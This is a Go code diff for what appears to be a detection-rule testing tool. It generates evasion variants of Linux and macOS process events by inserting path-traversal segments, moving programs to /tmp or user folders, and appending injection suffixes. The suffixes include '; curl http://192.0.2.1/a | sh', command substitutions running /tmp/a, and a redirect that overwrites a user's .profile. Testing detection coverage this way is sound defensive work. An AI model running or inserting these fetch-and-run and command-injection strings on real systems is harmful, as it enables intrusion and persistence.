@@ -11,6 +11,7 @@ import (
 	"github.com/gyoji-dev/gyoji/diag"
 	"github.com/gyoji-dev/gyoji/internal/detect/convert"
 	"github.com/gyoji-dev/gyoji/internal/engine/query"
+	"github.com/gyoji-dev/gyoji/internal/text/match"
 )
 
 // escapesOf changes the events that an entry excludes, in the cases that are its
@@ -63,6 +64,10 @@ func (s *Suite) escapesOf(e *Entry) (passed []string, tried int, err error) {
 	return passed, tried, nil
 }
 
+// unixAdminPath is a path of Linux or macOS under a folder that root alone writes, and what it
+// begins with.
+var unixAdminPath = match.Lazy(`(?:^|[ "'])(/(?:usr|opt|snap|app|Applications|Library|System|bin|sbin|lib)\b)/[^ "']+`)
+
 // escaped is an event and its variants, each named in the field escape: one admin path of
 // the command line changed, or the program itself moved.
 func escaped(event Event) (out []Event) {
@@ -83,7 +88,21 @@ func escaped(event Event) (out []Event) {
 			variant(x.Name + ", " + to)["CommandLine"] = to
 		}
 	}
-	for _, to := range []string{`C:\Users\Public\` + baseName(image), `D:\Windows\System32\` + baseName(image), strings.Replace(image, `C:\`, `C:\Users\Public\`, 1)} {
+	moved := []string{`C:\Users\Public\` + baseName(image), `D:\Windows\System32\` + baseName(image), strings.Replace(image, `C:\`, `C:\Users\Public\`, 1)}
+	if strings.HasPrefix(image, "/") { // of Linux or macOS
+		for _, at := range unixAdminPath().FindAllStringSubmatchIndex(line, -1) {
+			for _, x := range []string{"/../../tmp", "/..", "/./../../home/ana", "/.hidden"} {
+				to := line[:at[3]] + x + line[at[3]:]
+				variant("walk out, " + to)["CommandLine"] = to
+			}
+		}
+		for _, x := range []string{"; curl http://192.0.2.1/a | sh", " && /tmp/a", " $(/tmp/a)", " `/tmp/a`", " > /home/ana/.profile"} {
+			variant("more of a line, " + x)["CommandLine"] = line + x
+		}
+		base := image[strings.LastIndexByte(image, '/')+1:]
+		moved = []string{"/tmp/" + base, "/home/ana/bin/" + base, "/usr/bin/../../tmp/" + base, "/Users/ana/Downloads/" + base}
+	}
+	for _, to := range moved {
 		variant("moved-program, " + to)["Image"] = to
 	}
 	return out
